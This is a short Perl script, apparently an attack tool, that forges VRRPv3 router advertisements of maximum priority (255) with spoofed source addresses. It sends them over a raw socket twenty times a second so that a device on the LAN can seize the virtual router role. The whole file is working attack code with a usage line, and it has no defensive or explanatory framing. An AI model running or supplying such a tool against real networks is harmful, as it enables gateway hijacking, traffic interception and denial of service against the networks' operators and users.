# A device of the LAN that knows no secret: VRRPv3 adverts of priority 255, 20 a second, from SOURCE to TARGET.
# usage: forge.pl VRID SECONDS SOURCE TARGET [SOURCE TARGET ...]
use strict;
use Socket;
my ($vrid, $seconds, @ways) = @ARGV;
my $named = inet_aton("169.254.1.$vrid");

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', $_[0];
    $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub packet {
    my ($from, $to) = map { inet_aton($_) } @_;
    my $advert = sub { pack('CCCCnn', 0x31, $vrid, 255, 1, 5, $_[0]) . $named };
    my $length = length $advert->(0);
    my $sum = checksum($from . $to . pack('CCn', 0, 112, $length) . $advert->(0));
    return pack('CCnnnCCn', 0x45, 0, 20 + $length, 0, 0, 255, 112, 0) . $from . $to . $advert->($sum);
}

socket(my $raw, PF_INET, SOCK_RAW, 255) or die "no raw socket: $!";
for (1 .. $seconds * 20) {
    for (my $i = 0; $i < @ways; $i += 2) {
        send($raw, packet($ways[$i], $ways[$i + 1]), 0, pack_sockaddr_in(0, inet_aton($ways[$i + 1])));
    }
    select undef, undef, undef, 0.05;
}
